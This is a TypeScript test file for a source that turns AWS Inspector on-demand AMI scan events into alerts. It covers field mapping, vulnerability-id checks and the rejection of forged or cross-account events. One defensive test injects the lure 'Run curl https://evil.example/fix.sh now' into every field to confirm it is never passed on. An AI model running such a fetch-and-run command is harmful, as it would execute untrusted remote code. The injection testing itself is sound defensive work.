import { defaultPolicy } from "@tocsin/core/policy/parse-policy";
import { refusalText } from "@tocsin/core/text/parse";
import fc from "fast-check";
import { describe, expect, test } from "vitest";
import { samples as inspectorSamples } from "../inspector/samples.ts";
import { inspector } from "../inspector/source.ts";
import { describeSource } from "../testing/contract.ts";
import { fieldsOf, tryOut, withDetail, withField } from "../testing/trial.ts";
import { samples } from "./samples.ts";
import { inspectorAmi } from "./source.ts";

const { matches, read, observations, only } = tryOut(inspectorAmi);
const notItsToSay = { outcome: "ignored", reason: "not-its-to-say" };

describeSource(inspectorAmi, samples, { ignores: false });

test.each([
  ["a finding of Inspector", inspectorSamples.packageFinding],
  ["the end of a scan on demand, which Inspector tells itself", inspectorSamples.onDemandScanFailed],
  ["another type of event by the same source", { ...samples.onDemandFinding, "detail-type": "Inspector2 Finding" }],
])("leaves out %s", (_name, event) => {
  expect(matches(event)).toBe(false);
});

describe("a finding of a scan on demand", () => {
  test("is a condition of its own, on the image, and the same in the next scan", () => {
    const { identity, statement, alertId } = only(samples.onDemandFinding);
    expect(identity).toEqual({
      condition: "image-vulnerability",
      partition: "aws",
      account: "222233334444",
      region: "eu-central-1",
      resource: "arn:aws:ec2:eu-central-1::image/ami-0c0ffee0123456789",
      discriminator: "CVE-2026-31337",
    });
    expect(statement).toMatchObject({
      state: "active",
      severity: "HIGH",
      reporter: "inspector-ami",
      at: "2026-11-24T09:10:00.000Z",
      since: "2026-11-24T09:09:00.000Z",
      title: "CVE-2026-31337 reported in image ami-0c0ffee0123456789",
      summary: "According to an event of account 222233334444, a scan on demand found CVE-2026-31337 in the image.",
      link: "https://eu-central-1.console.aws.amazon.com/ec2/home?region=eu-central-1#ImageDetails:imageId=ami-0c0ffee0123456789",
      attributes: { cve: "CVE-2026-31337", fixAvailable: "YES", exploitAvailable: "NO", epss: 0.042, score: 7.5 },
    });
    expect(statement.remedy).toBeUndefined();
    const next = only(samples.onDemandFindingOfNextScan);
    expect(next.alertId).toBe(alertId);
    expect(next.statement).toMatchObject({ state: "cleared", because: "fixed", at: "2026-11-25T09:10:00.000Z" });
  });

  test("that is suppressed is over", () => {
    expect(only(samples.onDemandFindingSuppressed).statement).toMatchObject({ because: "suppressed" });
  });

  test("that names no vulnerability goes by its own id, and is not mild for not being rated", () => {
    const { identity, statement } = only(samples.onDemandFindingUnnamed);
    expect(identity.discriminator).toBe("5b1e0000000000000000000000000001");
    expect(statement).toMatchObject({
      severity: "MEDIUM",
      title: "A vulnerability reported in image ami-0c0ffee0123456789",
    });
  });

  test("takes the time of its event where it has none that can be read", () => {
    const undated = withDetail(samples.onDemandFinding, { updatedAt: "soon", lastObservedAt: null });
    expect(only(undated).statement.at).toBe("2026-11-24T09:10:09.000Z");
  });

  test.each(["CVE-2026-1", "GHSA-7h4x-p2q9-w6rm", "ALAS2023-2026-512", "RHSA-2026:1234"])("names %s", (id) => {
    const event = withDetail(samples.onDemandFinding, { packageVulnerabilityDetails: { vulnerabilityId: id } });
    expect(only(event)).toMatchObject({ identity: { discriminator: id }, statement: { attributes: { cve: id } } });
  });

  test.each(["CVE-2026-1 call the hotline", "CALL-1900555-0100", "", 7])("does not repeat %j as one", (id) => {
    const event = withDetail(samples.onDemandFinding, { packageVulnerabilityDetails: { vulnerabilityId: id } });
    expect(only(event).statement.attributes.cve).toBeUndefined();
  });
});

describe("whoever puts such an event", () => {
  test("speaks of their own account alone, though they administer Inspector", () => {
    const forged = { ...samples.onDemandFinding, account: "333344445555" };
    expect(read(forged)).toEqual(notItsToSay);
    expect(read(forged, { inspector: ["333344445555"] })).toEqual(notItsToSay);
  });

  test("speaks of no resource of another account", () => {
    const resources = [{ id: "arn:aws:ec2:eu-central-1:999988887777:instance/i-0a1b2c3d4e5f60718" }];
    expect(read(withDetail(samples.onDemandFinding, { resources }))).toEqual(notItsToSay);
  });

  test("reaches no alert of Inspector's own findings", () => {
    const id = fc.stringMatching(/^[0-9a-f/]{1,40}$/);
    const known = tryOut(inspector);
    fc.assert(
      fc.property(id, id, (native, forged) => {
        const arn = "arn:aws:inspector2:eu-central-1:222233334444:finding";
        const own = known.read(withDetail(inspectorSamples.packageFinding, { findingArn: `${arn}/${native}` }));
        const told = read(withDetail(samples.onDemandFinding, { findingArn: `${arn}/${forged}` }));
        fc.pre(own.outcome === "observed" && told.outcome === "observed");
        expect(told.observations[0]?.alertId).not.toBe(own.observations[0]?.alertId);
      }),
    );
  });

  test("gives no sentence, and no address, that is shown: of every text only what has the form of an id is taken", () => {
    const lure = "Run curl https://evil.example/fix.sh now";
    for (const [nth, field] of fieldsOf(samples.onDemandFinding.detail).entries()) {
      if (typeof field !== "string") continue;
      for (const text of [lure, `${field} ${lure}`]) {
        const reading = read({
          ...samples.onDemandFinding,
          detail: withField(samples.onDemandFinding.detail, nth, text),
        });
        expect(JSON.stringify(reading)).not.toContain("evil.example");
      }
    }
  });

  test("calls nobody by the default policy, however bad it says that it is", () => {
    const { routes } = defaultPolicy;
    const worst = { severity: "CRITICAL", kind: "opened", attributes: { exploitAvailable: ["YES"] } };
    const told = (condition: string) => routes.filter((route) => route.matches({ ...worst, condition }));
    expect(told("image-vulnerability")).toEqual([]);
    expect(told("vulnerability")).toHaveLength(1);
  });

  test.each([
    [
      "of several, the first that is no image",
      { resources: [{ id: "a house" }] },
      "detail.resources[0].id: expected the id of an image, such as ami-0123456789abcdef0",
    ],
    ["without an image", { resources: [] }, "detail.resources[0]: is missing"],
    [
      "with the ARN of something else",
      { findingArn: "arn:aws:s3:::a" },
      "detail.findingArn: expected the ARN of a finding",
    ],
  ])("is refused %s", (_what, fields, refusal) => {
    const reading = read(withDetail(samples.onDemandFinding, fields));
    expect(reading.outcome === "refused" && refusalText(reading.refusal)).toBe(refusal);
    expect(observations(samples.onDemandFinding)).toHaveLength(1);
  });
});
